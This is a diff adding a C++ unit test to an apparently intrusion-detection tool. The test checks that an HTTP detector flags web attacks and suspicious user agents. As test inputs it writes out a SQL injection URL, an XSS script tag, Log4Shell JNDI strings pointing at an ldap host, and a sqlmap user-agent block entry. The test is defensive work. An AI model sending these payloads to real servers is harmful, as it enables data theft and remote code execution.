@@ -5,6 +5,7 @@
 
 #include "detect/http_detector.h"
 #include "frame_builder.h"
+#include "support/test_support.h"
 
 using namespace spoor;
 using namespace spoor::test;
@@ -203,4 +204,50 @@ TEST_CASE("web scanning evidence: each request's first path segment, hashed") {
     REQUIRE(f.paths.size() == 3);
     CHECK(f.paths[0] == f.paths[1]);
     CHECK(f.paths[0] != f.paths[2]);
+}
+
+TEST_CASE("web attacks and listed user agents, the User-Agent's verdict remembered") {
+    TempDir dir;
+    detect::HttpHeuristicsConfig config;
+    config.attacks = std::make_shared<const detect::WebAttackPatterns>();
+    config.user_agents =
+        detect::SuspiciousUserAgents::load(dir.write("ua.txt", "# lab\nsqlmap\n").string());
+    Fixture f(config);
+    const auto request = [&f](std::string target, std::string ua) {
+        return f.see(
+            "10.1.0.1", "10.1.0.80",
+            "GET " + target + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + ua + "\r\n\r\n");
+    };
+    const std::string browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0";
+    for (int again = 0; again < 2; ++again) {  // the second time from the verdicts kept
+        CAPTURE(again);
+        const auto sqli =
+            request("/item?id=1%27%20UNION%20SELECT%20pass%20FROM%20users--", browser);
+        REQUIRE(sqli.size() == 1);
+        CHECK(sqli[0].info == "potential sql injection (suspicious)");
+        CHECK(sqli[0].trail ==
+              "shop.example/item?id=1%27%20UNION%20SELECT%20pass%20FROM%20users--");
+        CHECK(sqli[0].matched_field == "http.url");
+        CHECK(sqli[0].heuristic == "web-attack");
+        // Log4Shell in the User-Agent outranks the XSS in the target.
+        const auto both =
+            request("/q?s=%3Cscript%3Ealert(1)%3C/script%3E", "${${lower:j}ndi:ldap://10.9.0.1/a}");
+        REQUIRE(both.size() == 1);
+        CHECK(both[0].info == "potential remote code execution (suspicious)");
+        CHECK(both[0].matched_field == "http.http_user_agent");
+        // The same family in both: the target is named.
+        const auto tie = request("/?x=${jndi:ldap://10.9.0.1/a}", "${jndi:ldap://10.9.0.1/b}");
+        REQUIRE(tie.size() == 1);
+        CHECK(tie[0].matched_field == "http.url");
+        CHECK(infos(request("/index.html", "sqlmap/1.7.2#stable (https://sqlmap.org)")) ==
+              std::vector<std::string>{
+                  "UA sqlmap/1.7.2#stable (https://sqlmap.org) | user agent (suspicious)"});
+        CHECK(request("/index.html", browser).empty());
+        CHECK(request("/index.html", "").empty());
+    }
+    // A User-Agent that is a trail already alerts as the trail, not twice.
+    f.set->add(trails::IndicatorKind::UserAgent, "sqlmap/9", {"lab tool (malware)", "(static)"},
+               trails::SourceRank::StaticMalware);
+    CHECK(infos(request("/", "sqlmap/9")) ==
+          std::vector<std::string>{"UA sqlmap/9 | lab tool (malware)"});
 }
